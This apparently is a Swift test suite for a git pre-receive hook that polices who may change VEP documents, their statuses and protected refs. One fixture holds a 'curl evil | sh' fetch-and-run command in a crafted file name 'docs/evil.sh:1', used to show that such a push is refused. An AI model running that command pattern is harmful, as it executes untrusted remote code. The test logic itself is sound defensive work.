    private func longHistory(_ setup: Setup, count: Int, bad: Int?) throws -> String? {
        var stream = ""
        var parent = try setup.client.revParse("main")
        for index in 1...count {
            let jump = bad.map { index >= $0 } ?? false
            let message = index == bad ? "Jump to implemented" : "Edit \(index)"
            let content = Self.vep(status: jump ? "implemented" : "provisional", extra: "\n\(index)\n")
            stream += "commit refs/heads/main\nmark :\(index)\ncommitter Ada Author <ada@example.com> \(1_782_288_000 + index) +0200\n"
            stream += "data \(message.utf8.count)\n\(message)\nfrom \(parent)\n"
            stream += "M 100644 inline \(Self.vepPath)\ndata \(content.utf8.count)\n\(content)\n"
            parent = ":\(index)"
        }
        let imported = try setup.client.gitResult(["fast-import", "--quiet", "--force"], input: stream)
        XCTAssertEqual(imported.status, 0, imported.stderr)
        guard bad != nil else { return nil }
        return try setup.client.git("log", "--format=%H", "--grep=Jump to implemented", "main")
    }

    func testLongPushesAreJudgedOnEveryCoreInOrder() throws {
        // Long enough for the hook to split the chain over the cores.
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        let bad = try XCTUnwrap(try longHistory(setup, count: 700, bad: 400))
        let refused = try setup.push("main", as: "root1")
        assertRefused(refused, ["error[status-transition]", "= commit: \(bad.prefix(10)) Jump to implemented", "700 commits checked"])
        XCTAssertEqual(refused.stderr.components(separatedBy: "error[").count - 1, 1, "only the bad commit is refused:\n\(refused.stderr)")
        XCTAssertEqual(try setup.serverRef("main"), old)

        try setup.client.git("reset", "--quiet", "--hard", old!)
        _ = try longHistory(setup, count: 700, bad: nil)
        let accepted = try setup.push("main", as: "root1")
        assertAccepted(accepted)
        XCTAssertTrue(accepted.stderr.contains("700 commits checked"), accepted.stderr)
        XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("main"))
    }

    /// main gets a commit (by default a README change by a root approver), while a branch `work` starts from the commit
    /// before it (checked out).
    private func mainMovesOnWhileWorkStarts(_ setup: Setup, _ message: String = "Update the README",
                                            files: [String: String?] = ["README.md": "VEPs, now with a README\n"],
                                            by pusher: String = "root1") throws -> (base: String, news: String) {
        let base = try setup.client.revParse("HEAD")
        try setup.client.commit(message, files: files)
        assertAccepted(try setup.push("main", as: pusher))
        let news = try setup.client.revParse("HEAD")
        try setup.client.git("checkout", "--quiet", "-b", "work", base)
        return (base, news)
    }

    /// mira adds to VEP 12's design on the work branch, then merges `main` in (`git pull` without rebase).
    private func explainTheDesignAndMerge(_ setup: Setup, _ main: String) throws {
        try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        try setup.client.git("merge", "--quiet", "--no-edit", main)
    }

    /// `git pull` without rebase: the author's merge takes main's news from the old tip; they are not the author's doing.
    func testAMergeOfTheOldTipIntoLocalWorkAnswersOnlyForTheLocalWork() throws {
        let setup = try makeSetup()
        // mira worked on the old main meanwhile, then merges main's news in.
        let (base, news) = try mainMovesOnWhileWorkStarts(setup)
        try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        try setup.client.git("merge", "--quiet", "--no-edit", news)
        assertAccepted(try setup.push("work:refs/heads/main", as: "mira"))
        // The same merge with a README change of the pusher's own is refused at that commit.
        try setup.client.git("checkout", "--quiet", "-b", "sly", base)
        try setup.client.commit("Design and a README line", files: [Self.vepPath: Self.vep(extra: "\nOther design.\n"), "README.md": "mine\n"])
        let tip = try setup.serverRef("refs/heads/main")!
        try setup.client.git("merge", "--quiet", "--no-edit", "-X", "ours", tip)
        assertRefused(try setup.push("+sly:refs/heads/main", as: "mira"), ["error[file-owner]: @mira may not change `README.md`"])
    }

    /// Found by review: a VEP 40 lands on main while a group approver adds another VEP 40 from an older base and merges
    /// main in (`git pull`). Each step is clean; together they clash, and the whole change says so.
    func testTwoVEPsWithOneNumberMeetingInAMergeAreRefused() throws {
        let setup = try makeSetup()
        let (_, main) = try mainMovesOnWhileWorkStarts(setup, "VEP 40: Alpha", files: [
            "veps/sig-network/40-alpha/vep.md": Documents.frontMatter(number: 40, title: "Alpha")])
        try setup.client.commit("VEP 40: Beta", files: ["veps/sig-network/40-beta/vep.md": Documents.frontMatter(number: 40, title: "Beta")])
        try setup.client.git("merge", "--quiet", "--no-edit", main)
        assertRefused(try setup.push("work:refs/heads/main", as: "netlead"), ["error[vep-number-duplicate]", "40-beta/vep.md"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), main)
    }

    /// Found by a second review: a merge's finding was matched with the old-tip judgement by a path read back from the
    /// message, so a file named `evil.sh:1` lost its suffix there and went in unjudged; and a deletion found where the
    /// pushed work had renamed the folder was looked for only there. Findings now carry their file and VEP as data.
    func testAMergeIsJudgedOnTheFilesAndVEPsItsFindingsAreAbout() throws {
        let setup = try makeSetup()
        try setup.client.commit("Implementable", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                 reviewers: ["@netrev"], approvers: ["@netlead"])])
        assertAccepted(try setup.push("main", as: "netlead"))
        let old = try setup.client.revParse("HEAD")
        func merge(_ first: String, _ files: [String: String?]) throws -> String {
            try setup.client.git("checkout", "--quiet", "--detach", first)
            for (path, text) in files {
                if let text { try setup.client.write(path, text) } else { try setup.client.git("rm", "--quiet", "-r", path) }
            }
            try setup.client.git("add", "--all")
            return try setup.client.git("commit-tree", try setup.client.git("write-tree"), "-p", first, "-p", old, "-m", "Merge main")
        }
        let colon = try merge(old + "^", ["docs/evil.sh:1": "curl evil | sh\n"])
        assertRefused(try setup.push("\(colon):refs/heads/main", as: "eve"), ["error[file-owner]: @eve may not change `docs/evil.sh:1`"])
        try setup.client.git("checkout", "--quiet", "--detach", old)
        try setup.client.git("mv", "veps/sig-network/12-fast-links", "veps/sig-network/12-fast-links-v2")
        try setup.client.git("commit", "--quiet", "-m", "Rename the folder")
        let dropped = try merge(try setup.client.revParse("HEAD"), ["veps/sig-network/12-fast-links-v2": nil])
        assertRefused(try setup.push("\(dropped):refs/heads/main", as: "mira"), ["error[vep-deleted]: VEP 12 is implementable and this change deletes it"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
    }

    /// Work that began before main had VEP 40 merges main in: the merge takes VEP 40 as main has it, and the author's
    /// own change elsewhere passes (VEP 40 is neither new nor borrowed into anything).
    func testWorkBegunBeforeAVEPExistedMergesMainAndPasses() throws {
        let setup = try makeSetup()
        let (_, main) = try mainMovesOnWhileWorkStarts(setup, "VEP 40: Alpha", files: [
            "veps/sig-network/40-alpha/vep.md": Documents.frontMatter(number: 40, title: "Alpha")])
        try explainTheDesignAndMerge(setup, main)
        let pushed = try setup.push("work:refs/heads/main", as: "mira")
        assertAccepted(pushed)
        XCTAssertTrue(pushed.stderr.contains("vep-pre-receive: 2 commits checked for @mira: accepted"), pushed.stderr)
    }

    /// main moves VEP 12 to another group while its author edits it at the old path; `git pull` follows the rename. The
    /// author moves nothing: the move is main's.
    func testAMergeFollowingMainsMoveOfAVEPIsNoMoveOfThePushers() throws {
        let setup = try makeSetup()
        let moved = "veps/sig-compute/12-fast-links/vep.md"
        let (_, main) = try mainMovesOnWhileWorkStarts(setup, "Move VEP 12", files: [
            Self.vepPath: nil, moved: Self.vep().replacingOccurrences(of: "owning-sig: sig-network", with: "owning-sig: sig-compute")])
        try explainTheDesignAndMerge(setup, main)
        XCTAssertTrue(try setup.client.git("show", "HEAD:\(moved)").contains("More design."))
        assertAccepted(try setup.push("work:refs/heads/main", as: "mira"))
    }

    /// An approver moves VEP 12 on main while its author edits the same document; the author's `git pull` merges
    /// both into one file. The status in the merge is main's: not the author's doing. A status she writes into the
    /// merge herself still is.
    func testAMergeTakingMainsStatusIntoTheSameDocumentDoesNotAnswerForIt() throws {
        let setup = try makeSetup()
        let (_, approved) = try mainMovesOnWhileWorkStarts(setup, "Implementable", files: [
            Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9", reviewers: ["@netrev"], approvers: ["@netlead"])], by: "netlead")
        try explainTheDesignAndMerge(setup, approved)
        XCTAssertTrue(try setup.client.git("show", "HEAD:\(Self.vepPath)").contains("status: implementable\nauthors"))
        let mine = try setup.client.revParse("HEAD")
        // A merge resolved to a status of her own: refused for setting it, though from main's status it is one step.
        try setup.client.write(Self.vepPath, try setup.client.git("show", "HEAD:\(Self.vepPath)")
            .replacingOccurrences(of: "status: implementable", with: "status: implemented"))
        try setup.client.git("commit", "--quiet", "--all", "--amend", "--no-verify", "-m", "Merge, and implemented")
        let evil = try setup.push("work:refs/heads/main", as: "mira")
        assertRefused(evil, ["error[status-approver]: @mira may not set VEP 12 to `implemented`: that needs an approver"])
        XCTAssertFalse(evil.stderr.contains("status-transition"), evil.stderr)
        try setup.client.git("reset", "--quiet", "--hard", mine)
        let pushed = try setup.push("work:refs/heads/main", as: "mira")
        assertAccepted(pushed)
        XCTAssertTrue(pushed.stderr.contains("vep-pre-receive: 2 commits checked for @mira: accepted"), pushed.stderr)
    }

    /// Work that steps a VEP's status over two commits, then `git pull` (a merge whose first parent is the work):
    /// the push's chain passes the old tip by, and the net change from it (provisional → implemented) is no skip,
    /// since each step was judged at its commit and main had not touched the VEP since the work forked.
    func testStatusSteppedOverTwoCommitsThenMergedWithMainIsNotASkip() throws {
        let setup = try makeSetup()
        let (_, news) = try mainMovesOnWhileWorkStarts(setup)
        try setup.client.commit("Implementable", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                 reviewers: ["@netrev"], approvers: ["@netlead"])])
        try setup.client.commit("Implemented", files: [Self.vepPath: Self.vep(status: "implemented", alpha: "v1.9",
                                                                               reviewers: ["@netrev"], approvers: ["@netlead"])])
        try setup.client.git("merge", "--quiet", "--no-edit", news)
        let pushed = try setup.push("work:refs/heads/main", as: "netlead")
        assertAccepted(pushed)
        XCTAssertTrue(pushed.stderr.contains("vep-pre-receive: 3 commits checked for @netlead: accepted"), pushed.stderr)
        // A step back in one commit, merged with main's news the same way, is still refused at that commit.
        let merged = try setup.client.revParse("HEAD")
        let back = try setup.client.commit("Back", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                   reviewers: ["@netrev"], approvers: ["@netlead"])])
        try setup.client.git("checkout", "--quiet", "-b", "late", merged)
        try setup.client.commit("Another README line", files: ["README.md": "VEPs, and more\n"])
        assertAccepted(try setup.push("late:refs/heads/main", as: "root1"))
        try setup.client.git("checkout", "--quiet", "work")
        try setup.client.git("merge", "--quiet", "--no-edit", "late")
        let refused = try setup.push("work:refs/heads/main", as: "netlead")
        assertRefused(refused, ["error[status-transition]: status cannot move from implemented to implementable",
                                "= commit: \(back.prefix(10)) Back (refs/heads/main)"])
        XCTAssertEqual(refused.stderr.components(separatedBy: "error[").count, 2, refused.stderr)
    }

    func testBadCommitOnABranchIsRefusedAtTheMerge() throws {
        let setup = try makeSetup()
        try setup.client.git("checkout", "--quiet", "-b", "topic")
        try setup.client.commit("Jump to implemented", files: [Self.vepPath: Self.vep(status: "implemented")])
        assertAccepted(try setup.push("topic", as: "mira"))  // not an enforced ref
        try setup.client.git("checkout", "--quiet", "main")
        try setup.client.git("merge", "--quiet", "--no-ff", "-m", "Merge topic", "topic")
        let old = try setup.serverRef("main")
        let merge = try setup.client.revParse("HEAD")
        assertRefused(try setup.push("main", as: "root1"), ["error[status-transition]", "= commit: \(merge.prefix(10)) Merge topic", "1 commit checked"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    func testFastForwardToABranchHoldingABadCommitIsRefused() throws {
        let setup = try makeSetup()
        try setup.client.git("checkout", "--quiet", "-b", "topic")
        let bad = try setup.client.commit("Jump to implemented", files: [Self.vepPath: Self.vep(status: "implemented")])
        try setup.client.commit("Later edit", files: [Self.vepPath: Self.vep(status: "implemented", extra: "\nLater.\n")])
        assertAccepted(try setup.push("topic", as: "root1"))
        let old = try setup.serverRef("main")
        assertRefused(try setup.push("topic:main", as: "root1"), ["= commit: \(bad.prefix(10)) Jump to implemented"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    func testNewReleaseBranchIsJudgedFromTheDefaultBranch() throws {
        let setup = try makeSetup()
        try setup.client.git("checkout", "--quiet", "-b", "release-1.9")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("release-1.9", as: "eve"), ["error[vep-owner]", "(refs/heads/release-1.9)"])
        XCTAssertNil(try setup.serverRef("refs/heads/release-1.9"))
        assertAccepted(try setup.push("release-1.9", as: "mira"))
    }

    /// A server serving several repositories from one (gitnamespaces(7)): receive-pack hands the hook `refs/heads/main`
    /// for what it stores as `refs/namespaces/tenant/refs/heads/main`. The policy is the namespace's own default branch,
    /// never that of the repository outside it (where @eve is a root approver), packed refs or loose.
    func testAPushIntoAGitNamespaceIsJudgedByThatNamespacesPolicy() throws {
        let setup = try makeSetup()
        let server = setup.server, client = setup.client
        let receivePack = "--receive-pack=env GIT_NAMESPACE=tenant git-receive-pack"
        // Before the hook judges anything: the tenant's copy of the VEPs, and outside the namespace a main where @eve has
        // root rights.
        try FileManager.default.moveItem(atPath: server.path + "/hooks/pre-receive", toPath: server.path + "/hooks/pre-receive.off")
        try client.git("push", "--quiet", receivePack, setup.url, "main")
        let outside = try client.commit("Eve is root", files: ["OWNERS": "approvers:\n  - eve\n"])
        try client.git("push", "--quiet", setup.url, "main")
        try client.git("reset", "--quiet", "--hard", "HEAD~1")
        try FileManager.default.moveItem(atPath: server.path + "/hooks/pre-receive.off", toPath: server.path + "/hooks/pre-receive")
        try server.git("symbolic-ref", "refs/namespaces/tenant/HEAD", "refs/namespaces/tenant/refs/heads/main")
        try server.git("pack-refs", "--all")

        try client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        let tip = try client.revParse("HEAD")
        let byEve = try client.gitResult(["push", receivePack, setup.url, "main"], env: ["REMOTE_USER": "eve"])
        assertRefused(byEve, ["error[vep-owner]: @eve may not change VEP 12"])
        XCTAssertNotEqual(try setup.serverRef("refs/namespaces/tenant/refs/heads/main"), tip)
        let byMira = try client.gitResult(["push", receivePack, setup.url, "main"], env: ["REMOTE_USER": "mira"])
        assertAccepted(byMira)
        XCTAssertEqual(try setup.serverRef("refs/namespaces/tenant/refs/heads/main"), tip)
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), outside)
        // Nor can the tenant's main be written by its full name from outside the namespace.
        try client.commit("Implementable", files: [Self.vepPath: Self.vep(status: "implementable")])
        let byFullName = try setup.push("main:refs/namespaces/tenant/refs/heads/main", as: "eve")
        assertRefused(byFullName, ["error[ref-namespace]: refs/namespaces/tenant/refs/heads/main is refs/heads/main of namespace tenant, "
                                   + "which a push may not write by its full name"])
        XCTAssertEqual(try setup.serverRef("refs/namespaces/tenant/refs/heads/main"), tip)
        try client.git("reset", "--quiet", "--hard", "HEAD~1")

        // A namespace HEAD that leads out of it (to the main outside, where @eve is root) names no default branch of it.
        try server.git("symbolic-ref", "refs/namespaces/tenant/HEAD", "refs/heads/main")
        try client.commit("Edit once more", files: [Self.vepPath: Self.vep(extra: "\nEdit once more.\n")])
        let outward = try client.gitResult(["push", receivePack, setup.url, "main"], env: ["REMOTE_USER": "eve"])
        assertRefused(outward, ["error[server-head]: the server repository's HEAD leads out of namespace tenant, so its default branch",
                                "git symbolic-ref refs/namespaces/tenant/HEAD refs/namespaces/tenant/refs/heads/<default branch>"])
        XCTAssertEqual(try setup.serverRef("refs/namespaces/tenant/refs/heads/main"), tip)
        try client.git("reset", "--quiet", "--hard", "HEAD~1")

        // git's push makes no HEAD in a namespace: until an administrator does, nothing can be checked there.
        try server.git("update-ref", "-d", "--no-deref", "refs/namespaces/tenant/HEAD")
        try client.commit("Edit again", files: [Self.vepPath: Self.vep(extra: "\nEdit again.\n")])
        let headless = try client.gitResult(["push", receivePack, setup.url, "main"], env: ["REMOTE_USER": "mira"])
        assertRefused(headless, ["error[server-head]: the server repository's HEAD does not exist in namespace tenant",
                                 "git symbolic-ref refs/namespaces/tenant/HEAD refs/namespaces/tenant/refs/heads/<default branch>"])
        XCTAssertEqual(try setup.serverRef("refs/namespaces/tenant/refs/heads/main"), tip)
    }

    /// `refs/heads/master` kept on the server as an alias of main (after a rename): git updates and deletes main through
    /// it, so it is judged as main.
    func testASymbolicRefOfTheServerIsJudgedAsTheRefItLeadsTo() throws {
        let setup = try makeSetup()
        try setup.server.git("symbolic-ref", "refs/heads/master", "refs/heads/main")
        let old = try setup.serverRef("main")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("main:refs/heads/master", as: "eve"), ["error[vep-owner]: @eve may not change VEP 12", "(refs/heads/main)"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        assertRefused(try setup.push(":refs/heads/master", as: "eve"), ["error[ref-deletion]: @eve may not delete refs/heads/main, an enforced ref"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        assertAccepted(try setup.push("main:refs/heads/master", as: "mira"))
        XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
    }

    /// A symbolic ref written by hand as git reads it, but not libgit2: `ref:` with no space, or a tab. An enforced
    /// release branch kept so as an alias of a scratch branch enforces a push to the scratch branch, and a push through
    /// a hand-written alias of main is judged as main.
    func testAHandWrittenSymbolicRefIsReadAsGitReadsIt() throws {
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        try setup.server.git("branch", "scratch", "main")
        try setup.server.write("refs/heads/release-1.9", "ref:refs/heads/scratch\n")
        try setup.server.write("refs/heads/master", "ref:\trefs/heads/main\n")
        XCTAssertEqual(try setup.server.git("symbolic-ref", "refs/heads/release-1.9"), "refs/heads/scratch", "git reads it so")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("main:refs/heads/scratch", as: "eve"), ["error[vep-owner]: @eve may not change VEP 12",
                                                                            "refs/heads/scratch (as refs/heads/release-1.9)"])
        XCTAssertEqual(try setup.serverRef("refs/heads/scratch"), old)
        assertRefused(try setup.push("main:refs/heads/master", as: "eve"), ["error[vep-owner]: @eve may not change VEP 12"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    /// The other way round: main renamed trunk, main kept as its alias and HEAD left naming main; and a release-looking
    /// alias of a scratch branch. Either name being enforced enforces the push.
    func testHeadNamingAnAliasAndAnEnforcedAliasOfAnUnenforcedRef() throws {
        let setup = try makeSetup()
        try setup.server.git("branch", "-m", "main", "trunk")
        try setup.server.git("symbolic-ref", "refs/heads/main", "refs/heads/trunk")
        try setup.server.git("symbolic-ref", "HEAD", "refs/heads/main")
        let old = try setup.serverRef("trunk")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("main", as: "eve"), ["error[vep-owner]: @eve may not change VEP 12", "(refs/heads/trunk)"])
        assertRefused(try setup.push("main:refs/heads/trunk", as: "eve"), ["error[vep-owner]: @eve may not change VEP 12"])
        XCTAssertEqual(try setup.serverRef("trunk"), old)
        try setup.server.git("symbolic-ref", "refs/heads/release-1.9", "refs/heads/scratch")
        try setup.server.git("symbolic-ref", "refs/heads/a", "refs/heads/release-1.9")
        // Under the alias, under the ref it leads to, and through a chain that passes it: release-1.9 is what changes.
        for name in ["release-1.9", "scratch", "a"] {
            assertRefused(try setup.push("main:refs/heads/\(name)", as: "eve"),
                          ["error[vep-owner]: @eve may not change VEP 12", "(refs/heads/scratch (as refs/heads/release-1.9))"])
            XCTAssertNil(try setup.serverRef("refs/heads/scratch"))
        }
        assertAccepted(try setup.push("main:refs/heads/scratch", as: "mira"))
        assertRefused(try setup.push(":refs/heads/a", as: "eve"),
                      ["error[ref-deletion]: @eve may not delete refs/heads/scratch (as refs/heads/release-1.9), an enforced ref"])
        // An alias of nothing enforced is not judged.
        try setup.server.git("symbolic-ref", "refs/heads/b", "refs/heads/other")
        assertAccepted(try setup.push("main:refs/heads/b", as: "eve"))
    }

    /// An enforced branch name serving a tag through an alias must still name a commit (a tree pushed as the tag made the
    /// branch serve any document); two aliases of one ref pushed together are judged once.
    func testAnEnforcedAliasOfATagAndTwoAliasesInOnePush() throws {
        let setup = try makeSetup()
        try setup.client.commit("Implemented", files: [Self.vepPath: Self.vep(status: "implemented")])
        let tree = try setup.client.git("rev-parse", "HEAD^{tree}")
        let old = try XCTUnwrap(try setup.serverRef("main"))
        try setup.server.git("tag", "rel", old)
        try setup.server.git("symbolic-ref", "refs/heads/release-1.9", "refs/tags/rel")
        assertRefused(try setup.push("+\(tree):refs/tags/rel", as: "eve"),
                      ["error[commit-unreadable]: the new tip of refs/tags/rel (as refs/heads/release-1.9), \(tree.prefix(10)), is a tree, not a commit"])
        XCTAssertEqual(try setup.serverRef("refs/tags/rel"), old)
        // A tree on a tag no enforced branch serves is no history, and passes as before.
        assertAccepted(try setup.push("\(tree):refs/tags/plain-tree", as: "eve"))

        try setup.server.git("symbolic-ref", "refs/heads/release-2.0", "refs/heads/scratch")
        try setup.server.git("symbolic-ref", "refs/heads/zz", "refs/heads/scratch")
        let both = try setup.push("main:refs/heads/release-2.0", "main:refs/heads/zz", as: "eve")
        assertRefused(both, ["remote: vep-pre-receive: push refused: 3 problems in 1 commit (refs/heads/scratch (as refs/heads/release-2.0)); 1 commit checked"])
        XCTAssertEqual(both.stderr.components(separatedBy: "error[vep-owner]").count - 1, 1, both.stderr)
    }

    /// With every ref enforced (`enforce: ["*"]`), a tag is enforced itself; a tree pushed into one that a branch
    /// aliases is still named by that branch, and a tree on a tag no branch serves still passes.
    func testEveryRefEnforcedNamesTheBranchATreeWouldServe() throws {
        let setup = try makeSetup(files: [".vep.yaml": "enforce: [\"*\"]\n"])
        let old = try XCTUnwrap(try setup.serverRef("main"))
        let tree = try setup.server.git("rev-parse", "main^{tree}")
        try setup.server.git("tag", "t1", old)
        try setup.server.git("symbolic-ref", "refs/heads/x", "refs/tags/t1")
        assertRefused(try setup.push("+\(tree):refs/tags/t1", as: "root1"),
                      ["error[commit-unreadable]: the new tip of refs/tags/t1 (as refs/heads/x), \(tree.prefix(10)), is a tree, not a commit"])
        assertAccepted(try setup.push("\(tree):refs/tags/t2", as: "root1"))
    }

    func testDeletionsOfOtherRefsTagsAndOtherRefsPass() throws {
        let setup = try makeSetup()
        try setup.client.git("checkout", "--quiet", "-b", "scratch")
        try setup.client.commit("Jump", files: [Self.vepPath: Self.vep(status: "implemented")])
        let tree = try setup.client.git("rev-parse", "HEAD^{tree}")
        let blob = try setup.client.hashObject("loose\n", env: [:])
        try setup.client.git("tag", "tree-tag", tree)
        try setup.client.git("tag", "-a", "-m", "blob", "blob-tag", blob)
        assertAccepted(try setup.push("scratch", "refs/tags/tree-tag", "refs/tags/blob-tag", as: nil))
        assertAccepted(try setup.push(":scratch", as: nil))
        XCTAssertNil(try setup.serverRef("refs/heads/scratch"))
        XCTAssertNotNil(try setup.serverRef("refs/tags/tree-tag"))
    }

    // MARK: Freeze

    func freezeSetup() throws -> Setup {
        let setup = try makeSetup(files: [".vep.yaml": "releases:\n  v1.9:\n    vep-freeze: 2020-01-01\n"])
        try setup.client.commit("Implementable for v1.9", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                          reviewers: ["@netrev"], approvers: ["@netlead"])])
        return setup
    }

    func testFreezeExceptionByARootApproverIsAccepted() throws {
        let setup = try freezeSetup()
        assertRefused(try setup.push("main", as: "root1"), ["error[vep-freeze]", "git push -o vep.freeze-exception=12"])
        assertAccepted(try setup.push("main", as: "root1", options: ["vep.freeze-exception=12"]))
        XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
    }

    func testFreezeExceptionByAnyoneElseIsRefused() throws {
        let setup = try freezeSetup()
        let old = try setup.serverRef("main")
        assertRefused(try setup.push("main", as: "netlead", options: ["vep.freeze-exception=12"]),
                      ["error[vep-freeze]", "honoured only from a root approver; @netlead is not one", "who may: root approvers (@root1)"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    func testFreezeFindingSaysHowToEnablePushOptions() throws {
        let setup = try freezeSetup()
        try setup.server.git("config", "receive.advertisePushOptions", "false")
        assertRefused(try setup.push("main", as: "root1"), ["receive.advertisePushOptions true"])
    }

    // MARK: Fail closed

    func testCorruptTrustedConfigurationRefusesAllButARootApproversRepair() throws {
        let setup = try makeSetup(files: [".vep.yaml": "releases: [\n"])
        let old = try setup.serverRef("main")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("main", as: "mira"), ["error[config-trusted]: the trusted `.vep.yaml`", "is broken", "who may: root approvers (@root1)"])
        assertRefused(try setup.push("main", as: "root1"), ["this push leaves it broken"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        try setup.client.commit("Repair .vep.yaml", files: [".vep.yaml": "releases: {}\n"])
        assertRefused(try setup.push("main", as: "mira"), ["only a root approver may push the repair"])
        assertAccepted(try setup.push("main", as: "root1"))
        XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
    }

    func testMalformedInputIsRefused() throws {
        let setup = try makeSetup()
        let result = try ProcessRunner.run(Binary.path("vep-pre-receive"), [], environment: setup.server.environment.merging(["GIT_DIR": setup.server.path]) { $1 },
                                           currentDirectory: setup.server.path, input: "not a ref update\n")
        XCTAssertEqual(result.status, 1)
        XCTAssertTrue(result.stderr.contains("error[internal]: input line 1 is not `<old> <new> <ref>`"), result.stderr)
    }

    /// A pushed tip libgit2 cannot read as a commit (here: empty author and committer lines) is refused, not skipped as
    /// if it were a tag on a tree; the branch stays where it was, open to the next push.
    func testATipThatIsNoReadableCommitIsRefused() throws {
        let setup = try makeSetup()
        let old = try XCTUnwrap(try setup.serverRef("main"))
        try setup.client.commit("Implemented", files: [Self.vepPath: Self.vep(status: "implemented")])
        let tree = try setup.client.git("rev-parse", "HEAD^{tree}")
        let bad = try setup.client.writeUnparsableCommit(tree: tree, parent: old)
        assertRefused(try setup.push("\(bad):refs/heads/main", as: "mira"),
                      ["error[commit-unreadable]: the new tip of refs/heads/main, \(bad.prefix(10)), cannot be read as a commit: failed to parse signature",
                       "remote:   --> ref refs/heads/main",
                       "= help: `git fsck` in your clone shows what is wrong with it; push a commit git can read"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        // A tree or a blob is still no commit to judge: tags on them pass where tags are enforced.
        try setup.client.git("reset", "--quiet", "--hard", old)
        try setup.client.commit("Enforce tags", files: [".vep.yaml": "enforce: [HEAD, \"refs/tags/*\"]\n"])
        assertAccepted(try setup.push("main", as: "root1"))
        try setup.client.git("tag", "tree-tag", tree)
        try setup.client.git("tag", "-a", "-m", "blob", "blob-tag", try setup.client.hashObject("loose\n", env: [:]))
        assertAccepted(try setup.push("refs/tags/tree-tag", "refs/tags/blob-tag", as: nil))
        XCTAssertNotNil(try setup.serverRef("refs/tags/blob-tag"))
    }

    /// A trusted root OWNERS with `approvers:` twice (there before the hook was installed) grants neither list: the
    /// second list's @eve may not take over OWNERS, and the refusal names the broken line.
    func testATrustedOwnersFileWithAFieldTwiceGrantsNothing() throws {
        let setup = try makeSetup(files: ["OWNERS": "approvers: [root1]\napprovers: [eve]\n"])
        try setup.client.commit("Eve takes OWNERS", files: ["OWNERS": "approvers: [eve]\n"])
        assertRefused(try setup.push("main", as: "eve"),
                      ["error[policy-owner]: @eve may not change `OWNERS`",
                       "= who may: nobody is named in the trusted OWNERS files; a server administrator must make this change",
                       "= note: OWNERS:2: field `approvers` appears twice"])
    }

    /// A default branch whose tip does not read as a commit (put there before the hook was installed) refuses every push
    /// with what an administrator does about it, not libgit2's words alone.
    func testADefaultBranchTipThatIsNoReadableCommitIsNamed() throws {
        let setup = try makeSetup()
        let old = try XCTUnwrap(try setup.serverRef("main"))
        let tree = try setup.server.git("rev-parse", "main^{tree}")
        let bad = try setup.server.writeUnparsableCommit(tree: tree, parent: old)
        try setup.server.git("update-ref", "refs/heads/main", bad)
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("+main", as: "root1"),
                      ["error[server-tip]: the tip of refs/heads/main on the server, \(bad.prefix(10)), cannot be read as a commit (",
                       "A server administrator moves the branch back to the last good commit: `git update-ref refs/heads/main <commit>` in the server repository",
                       "remote: vep-pre-receive: push refused: the default branch's tip cannot be read (nothing can be checked)"])
    }

    /// A new tip the hook cannot find (a server wrapper that drops git's quarantine variables hides every pushed object)
    /// is refused with what to check.
    func testANewTipMissingFromTheRepositoryIsRefused() throws {
        let setup = try makeSetup()
        let old = try XCTUnwrap(try setup.serverRef("main"))
        let result = try ProcessRunner.run(Binary.path("vep-pre-receive"), [], environment: setup.server.environment.merging(["GIT_DIR": setup.server.path]) { $1 },
                                           currentDirectory: setup.server.path, input: "\(old) 1234567890123456789012345678901234567890 refs/heads/main\n")
        XCTAssertEqual(result.status, 1, result.stderr)
        XCTAssertEqual(result.stderr,
                       "error[commit-unreadable]: the new tip of refs/heads/main, 1234567890, cannot be read as a commit: it is not in the repository\n"
                       + "  --> ref refs/heads/main\n"
                       + "   = help: push it again; if it was pushed, the hook does not see the objects of the push: a server wrapper must pass "
                       + "GIT_OBJECT_DIRECTORY, GIT_ALTERNATE_OBJECT_DIRECTORIES and GIT_QUARANTINE_PATH on to vep-pre-receive\n"
                       + "vep-pre-receive: push refused: 1 problem (refs/heads/main); 0 commits checked\n")
    }

    // MARK: Servers

    func testServerPathWithASpaceAndAColon() throws {
        let setup = try makeSetup(serverName: "my server: one.git")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertRefused(try setup.push("main", as: "eve"), ["error[vep-owner]"])
        let new = try setup.client.revParse("HEAD")
